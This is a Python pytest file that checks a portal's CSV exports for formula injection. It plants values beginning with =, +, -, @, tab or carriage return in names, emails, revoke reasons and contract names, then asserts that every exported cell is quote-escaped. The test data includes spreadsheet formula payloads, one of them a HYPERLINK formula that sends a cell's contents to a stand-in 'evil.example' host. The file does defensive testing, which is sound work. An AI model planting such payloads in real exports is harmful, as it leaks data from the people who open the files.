"""CSV formula injection in every export (OWASP "CSV injection").

The exports are found from ``app.url_map`` (every GET answered ``text/csv``), so a new export fails
``test_the_exports_are_the_known_ones`` until it is covered here. Values starting with ``=``, ``+``,
``-``, ``@``, tab or carriage return are put into every user-controlled field that reaches a CSV,
through the real forms where a form writes that field (staff edit the contract name and add members,
org admins assign codes by email and by file and revoke seats with a reason) and directly where the
value comes from outside (names and emails from Keycloak). In the downloaded file each such cell
starts with a single quote, and no cell at all starts with a formula character.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from portal.models import EnrollmentCode, MembershipType
from tests.security.conftest import SecurityWorld, build_url, route_methods, sign_in

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NAMES = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
# Learners' own emails come from Keycloak; these are valid addresses.
EMAILS = ["=cmd@acme.example", "+1@acme.example", "-2@acme.example"]
REASONS = ['=HYPERLINK("http://evil.example","x")', "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
CONTRACT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ASSIGNED = ["=1+1@acme.example", "+assign@acme.example", "-assign@acme.example"]
BULK = ["-bulk@acme.example", "+bulk@acme.example", "=bulk@acme.example"]
STORED_ASSIGNED = ["@evil", "\t=1@acme.example", "\r=1@acme.example"]  # however they got there
EXPORTS = {
    "staff.codes_export",
    "org_admin.codes_export",
    "org_admin.learners_export",
    "staff.orders_csv",
    "org_admin.report_download",  # a scheduled report's link: the learners CSV
}


def rows_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def dangerous_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def test_the_exports_are_the_known_ones(
    app: Flask, client: FlaskClient, world: SecurityWorld
) -> None:
    found = set()
    for role in ("own_admin", "staff"):
        for endpoint, _rule, method in route_methods(app):
            if method != "GET":
                continue
            sign_in(client, world.user_for(role))
            with client.get(build_url(app, endpoint, world)) as response:
                if response.mimetype == "text/csv" or "attachment" in response.headers.get(
                    "Content-Disposition", ""
                ):
                    found.add(endpoint)
    assert found == EXPORTS


def _plant(app: Flask, client: FlaskClient, world: SecurityWorld, db: Any) -> Any:
    """A code contract whose every user-controlled field starts with a formula."""
    s = db.session
    contract = world.contract("Formula", world.acme, MembershipType.CODE, seat_limit=30)
    s.commit()

    sign_in(client, world.staff)
    edited = client.post(
        f"/staff/contracts/{contract.id}/edit",
        data={"name": CONTRACT_NAME, "slug": "formula", "seat_revoke_allowed": "y"},
    )
    assert edited.status_code == 302, edited.get_data(as_text=True)[:2000]
    for email in EMAILS:  # staff add people by email; their accounts are made here
        added = client.post(f"/staff/organizations/{world.acme.id}/members", data={"email": email})
        assert added.status_code == 302, email

    seats = []
    for n, name in enumerate(NAMES):
        email = EMAILS[n] if n < len(EMAILS) else f"plain{n}@acme.example"
        from portal.models import User

        existing = s.scalar(select(User).where(User.email == email))
        if existing is not None:  # made by the member form above: give them a seat by code
            existing.name = name
            s.commit()
            seat = world.seat_user(contract, existing, enroll=False)
        else:
            _, seat = world.seat_learner(contract, email, name)
        seats.append(seat)

    sign_in(client, world.grace)
    base = f"/org/ACME/contracts/{contract.id}"
    for seat, reason in zip(seats, REASONS, strict=True):
        revoked = client.post(
            f"{base}/seats/{seat.id}/revoke", data={"reason": reason, "confirm": "y"}
        )
        assert revoked.status_code == 302, (reason, revoked.get_data(as_text=True)[:500])
    for email in ASSIGNED:
        assigned = client.post(f"{base}/codes/assign", data={"email": email})
        assert assigned.status_code == 302, (email, assigned.get_data(as_text=True)[:500])
    upload = "email\n" + "\n".join(BULK) + "\n"
    bulk = client.post(
        f"{base}/codes/assign-bulk",
        data={"file": (io.BytesIO(upload.encode()), "people.csv")},
        content_type="multipart/form-data",
        follow_redirects=True,  # to the bulk assignment's job page, with each row's result
    )
    assert bulk.status_code == 200 and bulk.get_data(as_text=True).count("Assigned") >= 3

    unused = world.free_codes(contract)
    for code, email in zip(unused, STORED_ASSIGNED, strict=False):
        code.assigned_email = email
    s.commit()
    return contract


def test_every_formula_in_every_export_is_neutralized(
    app: Flask, client: FlaskClient, world: SecurityWorld, db: Any
) -> None:
    contract = _plant(app, client, world, db)
    db.session.expire_all()
    stored = set(
        db.session.scalars(
            select(EnrollmentCode.assigned_email).where(
                EnrollmentCode.contract_id == contract.id,
                EnrollmentCode.assigned_email.is_not(None),
            )
        )
    )
    assert set(ASSIGNED + BULK + STORED_ASSIGNED) <= stored

    sign_in(client, world.staff)
    staff_codes = rows_of(client.get(f"/staff/contracts/{contract.id}/codes.csv"))
    sign_in(client, world.grace)
    admin_codes = rows_of(client.get(f"/org/ACME/contracts/{contract.id}/codes.csv"))
    learners = rows_of(client.get(f"/org/ACME/learners.csv?contract={contract.id}&status=all"))
    everything = rows_of(client.get("/org/ACME/learners.csv?status=all"))
    report = rows_of(client.get(f"/org/ACME/reports/download/{world.report_token}"))
    # The staff orders export: a learner's name and the contract's name are user-controlled.
    world.lee.name = NAMES[0]
    db.session.commit()
    sign_in(client, world.staff)
    orders = rows_of(client.get("/staff/orders.csv"))
    assert "'" + NAMES[0] in {cell for row in orders for cell in row}
    sign_in(client, world.grace)

    for name, rows in {
        "staff codes": staff_codes,
        "admin codes": admin_codes,
        "learners": learners,
        "all learners": everything,
        "scheduled report": report,
        "staff orders": orders,
    }.items():
        assert dangerous_cells(rows) == [], name

    for rows in (staff_codes, admin_codes):
        cells = {cell for row in rows for cell in row}
        for email in ASSIGNED + BULK + STORED_ASSIGNED:
            assert "'" + email in cells, email

    # The service trims a reason's surrounding whitespace ("\t=1" is kept as "=1"): check what it kept.
    from portal.models import Seat

    reasons = list(
        db.session.scalars(select(Seat.revoke_reason).where(Seat.contract_id == contract.id))
    )
    assert sorted(reasons) == sorted(r.strip() for r in REASONS)
    cells = {cell for row in learners for cell in row}
    for value in NAMES + EMAILS + reasons + [CONTRACT_NAME]:
        assert "'" + value in cells, repr(value)
    assert len(learners) == 1 + len(NAMES)  # the header, then one row per (revoked) seat
